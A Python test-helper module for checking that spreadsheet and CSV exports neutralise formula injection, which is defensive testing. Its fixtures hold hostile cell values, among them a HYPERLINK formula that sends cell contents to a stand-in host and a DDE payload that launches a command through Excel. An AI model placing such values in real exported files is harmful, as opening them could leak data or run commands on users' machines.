"""Reading exports back as a member of staff's Excel would: shared by the formula-injection tests of
every export (tests/documents, tests/review, tests/closing)."""

import csv
import io
import re
import zipfile

import openpyxl

# Text an enterprise could type into a case title, a contact name, a unit name: one per character
# that starts a formula in Excel or WPS.
HOSTILE_TITLES = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+": "+1+2 焊接机器人",
    "-": "-2+3 煤矸石利用",
    "@": "@SUM(1+1)",
}
HOSTILE_CONTACTS = {"=": "=1+2", "+": "+cmd|' /C calc'!A0", "-": "-1+1", "@": "@A1"}
FORMULA_ELEMENT = re.compile(r"<(?:\w+:)?f[\s>/]")


def sheet_xml_without_formulas(data: bytes) -> list[str]:
    """The XML of every worksheet of the .xlsx `data`, after checking none holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
        xml = [archive.read(name).decode("utf-8") for name in sheets]
    assert sheets, "no worksheet in the workbook"
    for name, text in zip(sheets, xml, strict=True):
        assert not FORMULA_ELEMENT.search(text), f"{name} holds a formula"
    return xml


def xlsx_cells(data: bytes) -> list[list]:
    """The cells (openpyxl Cell objects) of the first worksheet, rows of a formula-free workbook."""
    sheet_xml_without_formulas(data)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def assert_text_cell(cell, text: str) -> None:
    """The cell shows exactly `text`, stored as text (not a formula, not an error)."""
    assert (cell.value, cell.data_type) == (text, "s"), cell.coordinate


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def quoted(text: str) -> str:
    """How a CSV export writes text that Excel would otherwise run as a formula."""
    return "'" + text
